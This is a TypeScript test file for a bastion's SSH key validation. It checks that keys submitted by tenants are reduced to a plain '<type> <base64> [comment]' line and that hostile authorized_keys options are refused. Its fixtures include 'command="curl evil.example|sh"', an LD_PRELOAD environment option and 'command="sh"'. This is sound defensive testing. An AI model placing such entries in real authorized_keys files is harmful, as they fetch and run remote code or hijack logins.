import { describe, expect, it } from 'vitest';
import { authorizedKeyLine } from '../../../src/bastion/authorized-keys.ts';
import { parsePublicKey, publicKeyLine, SSH_KEY_TYPES } from '../../../src/model/ssh-public-key.ts';
import { planInstance } from '../../../src/model/instance-plan.ts';
import { inventoryFrom, lab, testConfig } from '../../support/lab.ts';

/** Entries a Tenant can write that must never become an authorized_keys line. */
const HOSTILE: [string, RegExp][] = [
  ['command="curl evil.example|sh" ssh-ed25519 AAAAC3Nz x', /not a known SSH key type/],
  ['from="*" ssh-ed25519 AAAAC3Nz', /not a known SSH key type/],
  ['no-pty AAAAC3Nz x', /not a known SSH key type/],
  ['cert-authority AAAAC3Nz x', /not a known SSH key type/],
  ['restrict,pty ssh-rsa AAAAB3Nz', /not a known SSH key type/],
  ['ssh-dss AAAAB3NzaC1kc3M x', /not a known SSH key type/],
  ['ssh-ed25519-cert-v01@openssh.com AAAAIHNz x', /not a known SSH key type/],
  ['environment="LD_PRELOAD=/tmp/x" ssh-rsa AAAA', /not a known SSH key type/],
  ['ssh-ed25519 not*base64', /not base64/],
  ['ssh-ed25519', /fewer than 2/],
];

describe('SSH public keys: only `<known type> <base64> [comment]`', () => {
  it.each(SSH_KEY_TYPES.map((t) => [t]))('%s is accepted, the comment kept on one line', (type) => {
    expect(publicKeyLine(`  ${type}   AAAAB3Nz   a  b\nc `)).toEqual({ line: `${type} AAAAB3Nz a b c` });
    expect(parsePublicKey(`${type} AAAA==`)).toEqual({ type, key: 'AAAA==' });
  });
  it.each(HOSTILE)('%j is refused', (entry, reason) => {
    const r = publicKeyLine(entry);
    expect('reason' in r && r.reason).toMatch(reason);
  });
  it('the bastion refuses the same entries (its lines end with the Tenant name)', () => {
    for (const [entry, reason] of HOSTILE) expect((authorizedKeyLine(entry, 't') as { reason: string }).reason).toMatch(reason);
    expect(authorizedKeyLine('sk-ssh-ed25519@openssh.com AAAA mine', 't')).toEqual({ line: 'sk-ssh-ed25519@openssh.com AAAA t' });
  });
});

describe("a VM's cloud-init keys: the Tenants' entries filtered, each drop a warning naming the Tenant", () => {
  const withKeys = (john: string[], mary: string[], env: Record<string, unknown> = {}) =>
    lab({ env }).replace('"publicKeys":["ssh-ed25519 AAAAjohn john@pc"]', `"publicKeys":${JSON.stringify(john)}`).replace('"publicKeys":["ssh-rsa AAAAmary mary@pc"]', `"publicKeys":${JSON.stringify(mary)}`);
  const plan = (text: string) => {
    const inventory = inventoryFrom(text);
    return planInstance([...inventory.instances.values()][0]!, inventory, testConfig());
  };
  it('keeps well-formed keys (owner first, then the managers), drops the rest with a warning', () => {
    const r = plan(withKeys(['ssh-ed25519 AAAAjohn john@pc', 'command="sh" ssh-ed25519 AAAAx'], ['ssh-rsa AAAAmary  mary@pc\nssh-rsa AAAAevil', 'ecdsa-sha2-nistp256 AAAAE2 m']));
    expect(r.plan!.publicKeys).toEqual(['ssh-ed25519 AAAAjohn john@pc', 'ssh-rsa AAAAmary mary@pc ssh-rsa AAAAevil', 'ecdsa-sha2-nistp256 AAAAE2 m']);
    const warnings = r.problems.filter((p) => p.severity === 'warning').map((p) => p.message);
    expect(warnings).toEqual([expect.stringMatching(/^Tenant john\.doe: spec\.publicKeys\[1\] left out of the VM's authorized keys: "command="sh"" is not a known SSH key type/)]);
    expect(r.problems.filter((p) => p.severity === 'error')).toEqual([]);
  });
});
